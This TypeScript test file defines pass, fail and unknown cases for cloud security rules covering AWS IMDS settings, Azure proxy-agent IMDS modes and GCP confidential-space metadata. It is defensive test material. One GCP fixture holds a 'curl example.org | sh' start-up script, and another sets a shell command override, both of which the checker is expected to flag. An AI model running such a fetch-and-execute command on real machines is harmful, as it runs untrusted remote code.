import { body, launchTemplate } from '../aws-fixture.js';
import type { RuleCase } from '../rule-case.js';
import { azureCase, NOT_KNOWN } from '../prove/azure/fixture.js';
import { space, vm } from '../gcp-fixture.js';

const aws: RuleCase[] = [
  { cloud: 'aws', name: 'IMDSv2, one hop', expected: 'pass', resources: { Host: launchTemplate() } },
  { cloud: 'aws', name: 'IMDSv1 works', expected: 'fail', at: 'Host', path: 'LaunchTemplateData.MetadataOptions.HttpTokens', resources: { Host: launchTemplate({ MetadataOptions: { HttpTokens: 'optional' } }) } },
  { cloud: 'aws', name: 'two hops', expected: 'fail', at: 'Host', path: 'LaunchTemplateData.MetadataOptions.HttpPutResponseHopLimit', resources: { Host: launchTemplate({ MetadataOptions: { HttpTokens: 'required', HttpPutResponseHopLimit: 2 } }) } },
  { cloud: 'aws', name: 'the second template of a stack', expected: 'fail', at: 'Second', resources: { Host: launchTemplate(), Second: launchTemplate({ MetadataOptions: {} }) } },
  { cloud: 'aws', name: 'an instance by its template', expected: 'pass', resources: { Host: launchTemplate(), Vm: body('AWS::EC2::Instance', { LaunchTemplate: { LaunchTemplateId: { Ref: 'Host' }, Version: '1' } }) } },
];

const azure: RuleCase[] = [
  azureCase('both enforced', 'pass'),
  azureCase('audited only', 'fail', { edits: [['VirtualMachine', 'tee', 'securityProfile.proxyAgentSettings.imds.mode', 'Audit']], at: 'tee', path: 'securityProfile.proxyAgentSettings.imds.mode' }),
  azureCase('off', 'fail', { edits: [['VirtualMachine', 'tee', 'securityProfile.proxyAgentSettings', undefined]], at: 'tee' }),
  azureCase('not known', 'unknown', { edits: [['VirtualMachine', 'tee', 'securityProfile.proxyAgentSettings', NOT_KNOWN]] }),
  azureCase('a profile that decides', 'unknown', { edits: [['VirtualMachine', 'tee', 'securityProfile.proxyAgentSettings.imds', { inVMAccessControlProfileReferenceId: '/subscriptions/1/x' }]], at: 'tee' }),
];

const gcp: RuleCase[] = [
  { cloud: 'gcp', name: 'the allow-list', expected: 'pass', resources: [space(), vm()] },
  { cloud: 'gcp', name: 'a command', expected: 'fail', at: 'tee', path: 'metadata.tee-cmd', resources: [space({}, { 'tee-cmd': '["sh"]' })] },
  { cloud: 'gcp', name: 'an environment variable', expected: 'fail', at: 'tee', path: 'metadata.tee-env-DEBUG', resources: [space({}, { 'tee-env-DEBUG': '1' })] },
  { cloud: 'gcp', name: 'logs to the serial console', expected: 'fail', at: 'tee', path: 'metadata.tee-container-log-redirect', resources: [space({}, { 'tee-container-log-redirect': 'serial' })] },
  { cloud: 'gcp', name: 'a verifier of the operator', expected: 'fail', at: 'tee', path: 'metadata.test-fake-verifier', resources: [space({}, { 'test-fake-verifier': 'true' })] },
  { cloud: 'gcp', name: 'a start-up script', expected: 'fail', at: 'vm', path: 'metadata.startup-script', resources: [vm({ metadataStartupScript: 'curl example.org | sh' })] },
  { cloud: 'gcp', name: 'a key that nobody knows', expected: 'unknown', at: 'tee', path: 'metadata.note', resources: [space({}, { note: 'x' })] },
];

export const cases: RuleCase[] = [...aws, ...azure, ...gcp];
